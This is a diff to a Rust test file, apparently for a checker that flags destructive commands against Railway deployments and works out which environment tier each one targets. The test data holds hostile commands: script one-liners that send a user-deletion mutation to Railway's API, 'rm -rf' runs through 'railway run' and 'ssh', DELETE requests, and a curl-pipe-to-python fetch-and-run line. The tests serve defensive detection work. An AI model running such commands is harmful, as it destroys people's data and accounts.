@@ -220,6 +220,22 @@ const ASKED: &[(&str, &str)] = &[
         "${id}",
     ),
     ("curl -s https://example.com/x.py | python3", ""),
+    (
+        "php -r 'send(\"https://backboard.railway.app\", \"mutation { userDelete }\");'",
+        "user",
+    ),
+    (
+        "deno eval 'await send(`https://backboard.railway.app`, `mutation { userDelete }`)'",
+        "user",
+    ),
+    (
+        "perl -e 'post(\"https://backboard.railway.app\", q(mutation { userDelete }))'",
+        "user",
+    ),
+    (
+        "ruby -e 'post(\"https://backboard.railway.app\", \"mutation { userDelete }\")'",
+        "user",
+    ),
     // Railway's command line.
     (
         "railway volume delete --volume pg-data -y",
@@ -280,6 +296,16 @@ const ASKED: &[(&str, &str)] = &[
         "*users",
     ),
     ("railway run rm -rf ../api", "../api"),
+    ("railway run sh -c 'rm -rf ../api' --help", "../api"),
+    ("railway run -s db -- rm -rf ../api", "../api"),
+    (
+        "curl -G https://backboard.railway.com/graphql/v2 -d \"$QS\"",
+        "",
+    ),
+    (
+        "curl -d --help -X DELETE https://api.example.com/x",
+        "api.example.com/x",
+    ),
     ("railway shell <<< 'rm -rf ../api'", "../api"),
     ("railway ssh -s api -- rm -rf /data", "api//data"),
     ("railway ssh 'rm -rf /data'", "railway-service//data"),
@@ -347,6 +373,45 @@ fn the_place_says_where_it_was_found_and_no_secret() {
     let found = judged("railway service delete -s api -e e-444");
     assert_eq!(found.effects[0].target.environment.as_deref(), Some("dev"));
     assert_eq!(found.effects[0].target.tier, Tier::Development);
+
+    for (script, environment, tier) in [
+        (
+            "RAILWAY_PROJECT_ID=p-111 RAILWAY_ENVIRONMENT_ID=e-444 railway down -y",
+            Some("dev"),
+            Tier::Development,
+        ),
+        (
+            "RAILWAY_ENVIRONMENT_ID=e-444 railway down -y -e production",
+            Some("production"),
+            Tier::Production,
+        ),
+        (
+            "RAILWAY_TOKEN=t railway down -y -e staging",
+            Some("staging"),
+            Tier::Staging,
+        ),
+        ("RAILWAY_ENV=staging railway down -y", None, Tier::Unknown),
+        (
+            "cd ../dev && railway down -y",
+            Some("dev"),
+            Tier::Development,
+        ),
+        ("cd / && railway down -y", None, Tier::Unknown),
+        (
+            "railway down -y -e \"$WHERE\"",
+            Some("$WHERE"),
+            Tier::Unknown,
+        ),
+        ("ssh host railway down -y", None, Tier::Unknown),
+    ] {
+        let found = judged(script);
+        let target = &found.effects[0].target;
+        assert_eq!(
+            (target.environment.as_deref(), target.tier),
+            (environment, tier),
+            "{script}"
+        );
+    }
 
     let found = judged("RAILWAY_TOKEN=tok railway service delete -s api");
     assert_eq!(found.effects[0].target.environment, None);
